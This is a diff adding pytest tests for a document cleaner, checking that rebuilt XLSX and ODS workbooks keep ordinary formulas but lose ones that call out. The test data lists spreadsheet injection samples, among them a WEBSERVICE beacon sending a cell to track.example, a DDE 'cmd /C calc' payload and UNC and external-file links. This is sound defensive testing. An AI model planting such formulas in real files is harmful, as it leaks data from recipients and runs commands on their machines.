@@ -6,10 +6,12 @@ import io
 import time
 import zipfile
 from collections.abc import Callable
+from xml.sax.saxutils import escape, unescape
 
 import pikepdf
 import pypdfium2
 import pytest
+from openpyxl.workbook.defined_name import DefinedName
 from PIL import Image, ImageChops
 
 from complaints.evidence.clean import FileCleaner, NotCleaned
@@ -21,7 +23,7 @@ from complaints.evidence.workshop.films import bare_film
 from complaints.evidence.workshop.jpeg import bare_jpeg
 from complaints.evidence.workshop.pdf import rebuilt_pdf
 from complaints.evidence.workshop.sounds import bare_amr, bare_mp3, bare_ogg
-from tests.evidence.carriers import SEEN, docx, film, mp3_frames, ogg, rels
+from tests.evidence.carriers import SEEN, docx, film, mp3_frames, ogg, open_document, rels
 from tests.evidence.carriers import pdf as a_pdf
 from tests.evidence.samples import archive, bomb_png, canary_jpeg, decoded, encoded, halves
 
@@ -182,6 +184,65 @@ def test_a_workbook_opens_again_with_its_cells() -> None:
     assert book.active["A1"].value == SEEN
     assert book.active["A2"].comment is None
     assert book.properties.creator in {None, "openpyxl"}
+
+
+CALLING = [
+    '_xlfn.WEBSERVICE("https://track.example/"&A1)',
+    "_xlfn.IMAGE(A1)",
+    'HYPERLINK("https://track.example/","x")',
+    'RTD("some.server",,"x")',
+    "cmd|' /C calc'!A0",
+    r"'\\\\track.example\\share\\[x.xlsx]1'!A1",
+    "[1]Sheet1!A1",
+]
+
+
+@pytest.mark.parametrize("formula", CALLING)
+def test_no_formula_of_a_workbook_tells_anybody_that_it_was_opened(formula: str) -> None:
+    """A document handed on by somebody who did not know that it is watched."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    book.active["A1"], book.active["A2"] = f"={formula}", "=SUM(B1:B3)"
+    book.defined_names["watch"] = DefinedName("watch", attr_text=formula)
+    out = io.BytesIO()
+    book.save(out)
+
+    with zipfile.ZipFile(io.BytesIO(office.rebuilt_office(out.getvalue(), "xlsx", 5000))) as made:
+        parts = {name: made.read(name).decode() for name in made.namelist()}
+
+    assert "SUM(B1:B3)" in parts["xl/worksheets/sheet1.xml"]
+    assert "A1" in parts["xl/worksheets/sheet1.xml"]
+    for told in (formula, "track.example", "<definedName "):
+        assert not [name for name, part in parts.items() if told in unescape(part)]
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        'of:=WEBSERVICE("https://track.example/")',
+        'of:=DDE("soffice";"file";"A1")',
+        "of:=['file:///track.example/x.ods'#$Sheet1.A1]",
+    ],
+)
+def test_no_formula_of_an_open_workbook_does_either(formula: str) -> None:
+    body = open_document(FileKind.ODS, (
+        "<office:spreadsheet><table:table><table:table-row>"
+        f"<table:table-cell table:formula='{escape(formula, {chr(39): '&apos;'})}'>"
+        "<text:p>7</text:p></table:table-cell>"
+        '<table:table-cell table:formula="of:=SUM([.B1:.B3])"/>'
+        "</table:table-row></table:table><table:dde-links><table:dde-link>"
+        '<office:dde-source office:dde-application="track.example"/>'
+        "</table:dde-link></table:dde-links></office:spreadsheet>"
+    ))  # fmt: skip
+
+    with zipfile.ZipFile(io.BytesIO(office.rebuilt_office(body, "ods", 5000))) as made:
+        content = unescape(made.read("content.xml").decode())
+
+    assert "of:=SUM([.B1:.B3])" in content
+    assert ">7<" in content
+    assert formula not in content
+    assert "track.example" not in content
 
 
 @pytest.mark.parametrize(
